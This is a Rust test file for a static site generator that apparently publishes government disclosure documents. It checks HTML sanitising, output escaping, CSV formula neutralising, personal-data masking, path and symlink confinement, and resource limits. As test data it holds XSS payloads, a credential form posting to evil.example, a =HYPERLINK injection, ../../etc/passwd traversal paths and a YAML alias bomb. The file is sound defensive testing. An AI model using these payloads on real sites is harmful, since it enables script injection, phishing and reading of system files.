//! One site per attack, each asserting the exact outcome: escaped, stripped,
//! refused or reported (issue 8). See also the canary (safety/disclosure.rs)
//! and the fuzz regressions (check/fuzz_regressions.rs).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common::{build, build_ok, doc, read_tree, run_in, site_with, write, MINIMAL_SITE};
use gongkai::diagnostics::Diagnostic;
use gongkai::BuildError;
use std::path::Path;

fn content_errors(root: &Path) -> Vec<Diagnostic> {
    match build(root, &root.join("public"), false) {
        Err(BuildError::Content(diags)) => diags,
        Err(BuildError::Io(e)) => panic!("expected content errors, got IO error {e:#}"),
        Ok(_) => panic!("expected content errors, the build succeeded"),
    }
}

fn codes_lines(diags: &[Diagnostic]) -> Vec<(&'static str, Option<u32>)> {
    diags.iter().map(|d| (d.code, d.line)).collect()
}

fn text(tree: &std::collections::BTreeMap<String, Vec<u8>>, rel: &str) -> String {
    String::from_utf8(tree[rel].clone()).unwrap()
}

fn body_of(html: &str) -> &str {
    let start = html.find("<div class=\"body\">").expect("a body") + "<div class=\"body\">".len();
    let article_end = start + html[start..].find("</article>").expect("an article");
    let end = start
        + html[start..article_end]
            .rfind("</div>")
            .expect("body's end");
    html[start..end].trim_end()
}

// ---- raw HTML policy ------------------------------------------------------

const HOSTILE_BODY: &str = "<script>alert('x')</script>\n\n\
<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"steal()\">盖住页面</div>\n\n\
<iframe src=\"https://evil.example/\"></iframe>\n\n\
<form action=\"https://evil.example/\"><input name=\"pw\"></form>\n\n\
<table><tr><td>一<br>二</td><td>m<sup>2</sup> H<sub>2</sub>O <span class=\"note\">注</span></td></tr></table>\n\n\
[点我](javascript:alert(1)) <a href=\"jav&#x61;script:alert(2)\">再点</a> <img src=x onerror=alert(3)>\n";

#[test]
fn raw_html_is_sanitised_by_default() {
    let site = site_with(&[("xxgk/a.md", doc("原始 HTML", "", HOSTILE_BODY).as_bytes())]);
    let out = site.path().join("public");
    build_ok(site.path(), &out, false);
    let html = text(&read_tree(&out), "xxgk/a/index.html");
    assert_eq!(
        body_of(&html),
        "\n<div>盖住页面</div>\n\n\n<div class=\"table-wrap\" tabindex=\"0\" role=\"region\" aria-label=\"表格\"><table><tbody><tr><td>一<br>二</td><td>m<sup>2</sup> H<sub>2</sub>O \
<span class=\"note\">注</span></td></tr></tbody></table></div>\n<p><a href=\"#\">点我</a> <a>再点</a> <img src=\"x\"></p>"
    );
}

#[test]
fn site_yaml_can_trust_raw_html_or_escape_it() {
    let site = site_with(&[("xxgk/a.md", doc("原始 HTML", "", HOSTILE_BODY).as_bytes())]);
    let out = site.path().join("public");
    write(
        site.path().join("site.yaml"),
        format!("{MINIMAL_SITE}raw_html: trusted\n"),
    );
    build_ok(site.path(), &out, false);
    let html = text(&read_tree(&out), "xxgk/a/index.html");
    assert!(body_of(&html).contains("<script>alert('x')</script>"));
    // Markdown link syntax is still held to safe schemes
    assert!(body_of(&html).contains("<a href=\"#\">点我</a>"));

    write(
        site.path().join("site.yaml"),
        format!("{MINIMAL_SITE}raw_html: escape\n"),
    );
    build_ok(site.path(), &out, false);
    let html = text(&read_tree(&out), "xxgk/a/index.html");
    assert!(body_of(&html).starts_with("&lt;script&gt;alert('x')&lt;/script&gt;"));
    assert!(!body_of(&html).contains("<table"));
}

// ---- front-matter strings in every output format ----------------------------

const PAYLOAD: &str = "</script><script>alert(\"t\")</script>]]><!--'&";

#[test]
fn front_matter_strings_are_escaped_in_every_format() {
    // YAML single-quoted: only '' needs doubling
    let yaml = |s: &str| format!("'{}'", s.replace('\'', "''"));
    let extra = format!(
        "doc_number: {}\nabstract: {}\nkeywords: [{}, {}, {}]\n",
        yaml(&format!("=HYPERLINK(\"https://evil.example\"){PAYLOAD}")),
        yaml(&format!("+1{PAYLOAD}")),
        yaml("@SUM(A1)"),
        yaml("-2+3"),
        yaml(PAYLOAD),
    );
    let title = yaml(&format!("标题{PAYLOAD}"));
    let site = site_with(&[("xxgk/a.md", doc(&title, &extra, "正文").as_bytes())]);
    let out = site.path().join("public");
    build_ok(site.path(), &out, false);
    let tree = read_tree(&out);
    let mut formats = std::collections::BTreeSet::new();
    for (rel, bytes) in &tree {
        let ext = rel.rsplit('.').next().unwrap_or("");
        formats.insert(ext.to_string());
        let Ok(s) = std::str::from_utf8(bytes) else {
            continue;
        };
        match ext {
            "json" => {
                // parses, and every payload string survives exactly
                let v: serde_json::Value = serde_json::from_str(s).unwrap();
                if rel == "catalog.json" {
                    assert!(v
                        .to_string()
                        .contains(&serde_json::to_string(PAYLOAD).unwrap()[1..PAYLOAD.len()]));
                }
            }
            "csv" => {
                // (keywords are joined into one cell; data.rs unit-tests + and - too)
                // every CSV is checked for formula cells; the document's row
                // (with its keywords) is in catalog.csv
                let must_hold: &[&str] = if rel == "catalog.csv" {
                    &["\"'=HYPERLINK", "\"'@SUM"]
                } else {
                    &[]
                };
                for cell in must_hold {
                    assert!(
                        s.contains(cell),
                        "{rel} lacks neutralised cell {cell}:\n{s}"
                    );
                }
                for bad in [",=", ",+", ",@", ",-", ",\"=", ",\"+", ",\"@", ",\"-"] {
                    assert!(!s.contains(bad), "{rel} has a formula cell {bad}:\n{s}");
                }
            }
            "html" | "xml" => {
                assert!(!s.contains("<script>alert"), "{rel} lets the payload run");
                assert!(!s.contains("]]><!--"), "{rel} has the payload unescaped");
                if let Some(i) = s.find("application/ld+json\">") {
                    let start = i + "application/ld+json\">".len();
                    let end = start + s[start..].find("</script>").unwrap();
                    let ld: serde_json::Value = serde_json::from_str(&s[start..end]).unwrap();
                    assert_eq!(ld["name"], format!("标题{PAYLOAD}"), "{rel} JSON-LD");
                }
            }
            // search data, stylesheets and any format added later: the raw payload never appears
            _ => assert!(
                !s.contains("<script>alert"),
                "{rel} carries the raw payload"
            ),
        }
    }
    for f in ["html", "xml", "json", "csv"] {
        assert!(formats.contains(f), "no .{f} output to check: {formats:?}");
    }
    let feed = text(&tree, "feed.xml");
    assert!(feed.contains("标题&lt;/script&gt;&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;]]&gt;&lt;!--&#39;&amp;"), "{feed}");
}

#[test]
fn control_characters_in_front_matter_are_refused() {
    let site = site_with(&[(
        "xxgk/a.md",
        doc("\"响铃\\a标题\"", "keywords: [\"a\\0b\"]\n", "正文").as_bytes(),
    )]);
    let diags = content_errors(site.path());
    let got: Vec<String> = diags.iter().map(ToString::to_string).collect();
    assert_eq!(
        codes_lines(&diags),
        [("SEC001", Some(2)), ("SEC001", Some(6))],
        "{got:#?}"
    );
    assert!(got[0].contains("控制字符 U+0007"), "{}", got[0]);
}

// ---- personal data -------------------------------------------------------------

fn pii_site() -> tempfile::TempDir {
    let body = "申请人身份证号 11010519491231002X，手机 13812345678。\n\n\
咨询邮箱 gkb@qinghe.gov.cn，另见 zhang.san@163.com。\n\n\
收款账户 6222 0212 3456 7890 128\n\n\
举报电话 13912345678 <!-- gongkai:allow-pii -->\n";
    let hidden = doc(
        "不公开的文件",
        "disclosure: 不予公开\ndisclosure_reason: 涉及个人隐私\n",
        "身份证 11010519491231002X",
    );
    let site = site_with(&[
        (
            "xxgk/a.md",
            doc("关于 13512345678 的通知", "", body).as_bytes(),
        ),
        ("xxgk/b.md", hidden.as_bytes()),
    ]);
    write(
        site.path().join("site.yaml"),
        format!("{MINIMAL_SITE}privacy:\n  allowed_emails: [gkb@qinghe.gov.cn]\n"),
    );
    site
}

#[test]
fn personal_data_is_reported_masked_and_fails_strict() {
    let site = pii_site();
    let (code, _, stderr) = run_in(site.path(), &["check"]);
    assert_eq!(code, 0, "warnings do not fail a normal check:\n{stderr}");
    let lines: Vec<&str> = stderr.lines().filter(|l| l.starts_with("警告")).collect();
    assert_eq!(
        lines,
        [
            "警告[PII002] content/xxgk/a.md:2:11  疑似手机号码：135****5678",
            "警告[PII001] content/xxgk/a.md:7:9  疑似居民身份证号码：1101**********002X",
            "警告[PII002] content/xxgk/a.md:7:31  疑似手机号码：138****5678",
            "警告[PII004] content/xxgk/a.md:9:27  疑似电子邮箱：z***@163.com",
            "警告[PII003] content/xxgk/a.md:11:6  疑似银行卡号：6222***********0128",
        ],
        "{stderr}"
    );
    for full in [
        "11010519491231002X",
        "13812345678",
        "zhang.san",
        "6222 0212 3456 7890 128",
        "13912345678",
    ] {
        assert!(
            !stderr.contains(full),
            "the full value {full} was printed:\n{stderr}"
        );
    }
    let (code, _, stderr) = run_in(site.path(), &["check", "--strict"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("检查未通过（--strict）：5 个警告"),
        "{stderr}"
    );
}

// ---- hostile paths -----------------------------------------------------------------

#[test]
fn attachment_paths_cannot_leave_the_site() {
    let cases = [
        "../../etc/passwd",
        "/etc/passwd",
        "C:\\\\Windows\\\\win.ini",
        "C:/Windows/win.ini",
        "a\\0b.pdf",
        "sub/../../x.pdf",
    ];
    let mut files = Vec::new();
    for (i, path) in cases.iter().enumerate() {
        let text = doc(
            "附件",
            &format!("slug: a{i}\nattachments:\n  - file: \"{path}\"\n"),
            "正文",
        );
        files.push((format!("xxgk/a{i}.md"), text));
    }
    files.push(("xxgk/s.md".into(), doc("网址", "slug: ../../etc\n", "正文")));
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_bytes()))
        .collect();
    let site = site_with(&refs);
    let diags = content_errors(site.path());
    let got: Vec<(&str, &str, Option<u32>)> = diags
        .iter()
        .map(|d| (d.file.as_str(), d.code, d.line))
        .collect();
    assert_eq!(
        got,
        [
            ("content/xxgk/a0.md", "FM031", Some(8)),
            ("content/xxgk/a1.md", "FM031", Some(8)),
            ("content/xxgk/a2.md", "FM031", Some(8)),
            ("content/xxgk/a3.md", "FM031", Some(8)),
            ("content/xxgk/a4.md", "SEC001", Some(8)), // NUL: refused as a control character
            ("content/xxgk/a5.md", "FM031", Some(8)),
            ("content/xxgk/s.md", "FM029", Some(6)),
        ],
        "{diags:#?}"
    );
    assert!(!site.path().join("public").exists());
}

#[cfg(unix)]
#[test]
fn symlinks_out_of_the_site_are_refused_and_inside_ones_read() {
    let outside = tempfile::tempdir().unwrap();
    write(
        outside.path().join("secret.md"),
        doc("外部文件", "", "外部正文"),
    );
    write(outside.path().join("secret.pdf"), "%PDF secret");
    let site = site_with(&[("xxgk/a.md", doc("正常", "", "正文").as_bytes())]);
    let content = site.path().join("content");
    std::os::unix::fs::symlink(
        outside.path().join("secret.md"),
        content.join("xxgk/leak.md"),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("secret.pdf"),
        content.join("xxgk/leak.pdf"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), content.join("outdir")).unwrap();
    std::os::unix::fs::symlink(content.join("xxgk/a.md"), content.join("xxgk/b.md")).unwrap();
    let diags = content_errors(site.path());
    let got: Vec<(&str, &str)> = diags.iter().map(|d| (d.file.as_str(), d.code)).collect();
    assert_eq!(
        got,
        [
            ("content/outdir", "PATH001"),
            ("content/xxgk/leak.md", "PATH001"),
            ("content/xxgk/leak.pdf", "PATH001"),
        ]
    );
    // without the outside links the inside link is an ordinary document
    for l in ["xxgk/leak.md", "xxgk/leak.pdf", "outdir"] {
        std::fs::remove_file(content.join(l)).unwrap();
    }
    let report = build_ok(site.path(), &site.path().join("public"), false);
    assert_eq!(report.documents, 2);
}

#[test]
fn chinese_attachment_names_are_percent_encoded_in_urls() {
    let source = doc(
        "附件",
        "attachments:\n  - file: 附件 1（清单）.pdf\n    title: 清单\n",
        "正文",
    );
    let site = site_with(&[
        ("xxgk/a.md", source.as_bytes()),
        ("xxgk/附件 1（清单）.pdf", b"%PDF-1.4 test"),
    ]);
    let out = site.path().join("public");
    build_ok(site.path(), &out, false);
    let tree = read_tree(&out);
    assert!(
        tree.contains_key("xxgk/a/附件 1（清单）.pdf"),
        "{:?}",
        tree.keys()
    );
    let html = text(&tree, "xxgk/a/index.html");
    assert!(
        html.contains(
            "href=\"/xxgk/a/%E9%99%84%E4%BB%B6%201%EF%BC%88%E6%B8%85%E5%8D%95%EF%BC%89.pdf\""
        ),
        "{html}"
    );
}

// ---- limits --------------------------------------------------------------------------

#[test]
fn documents_over_the_size_limit_are_refused_unread() {
    let big = doc("大文件", "", &"一".repeat(2 * 1024 * 1024)); // 6 MB of UTF-8
    let small_enough = doc("小文件", "", &"一".repeat(400 * 1024)); // 1.2 MB
    let site = site_with(&[
        ("xxgk/big.md", big.as_bytes()),
        ("xxgk/mid.md", small_enough.as_bytes()),
    ]);
    let diags = content_errors(site.path());
    assert_eq!(codes_lines(&diags), [("LIM001", None)], "{diags:?}");
    assert_eq!(diags[0].file, "content/xxgk/big.md");
    assert_eq!(diags[0].message, "文件大小 6.0 MB，超过上限 5 MB");
    // the limit is configurable
    write(
        site.path().join("site.yaml"),
        format!("{MINIMAL_SITE}max_document_mb: 1\n"),
    );
    let diags = content_errors(site.path());
    let files: Vec<(&str, &str)> = diags.iter().map(|d| (d.code, d.file.as_str())).collect();
    assert_eq!(
        files,
        [
            ("LIM001", "content/xxgk/big.md"),
            ("LIM001", "content/xxgk/mid.md")
        ]
    );
}

#[test]
fn a_yaml_alias_bomb_is_an_error() {
    let mut yaml = String::from("title: 炸弹\nagency: 某市人民政府办公室\ncategory: 综合政务\npublished: 2024-05-31\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..12 {
        let p = i - 1;
        yaml.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    let text = format!("---\n{yaml}---\n正文\n");
    let site = site_with(&[("xxgk/a.md", text.as_bytes())]);
    let start = std::time::Instant::now();
    let diags = content_errors(site.path());
    assert!(start.elapsed().as_secs() < 10, "took {:?}", start.elapsed());
    assert_eq!(diags.len(), 1, "{diags:?}");
    assert_eq!(diags[0].code, "FM003", "{}", diags[0]);
}

#[test]
fn ten_thousand_headings_are_an_error() {
    let body = "## 条款\n\n".repeat(10_000);
    let site = site_with(&[("xxgk/a.md", doc("标题很多", "", &body).as_bytes())]);
    let diags = content_errors(site.path());
    assert_eq!(codes_lines(&diags), [("LIM002", Some(7))]);
    assert_eq!(diags[0].message, "正文有 10000 个标题，超过上限 5000");
}

#[test]
fn nesting_ten_thousand_deep_is_an_error() {
    let body = format!("第一段\n\n{}深\n", "> ".repeat(10_000));
    let site = site_with(&[("xxgk/a.md", doc("嵌套", "", &body).as_bytes())]);
    let diags = content_errors(site.path());
    assert_eq!(codes_lines(&diags), [("LIM003", Some(9))]);
}
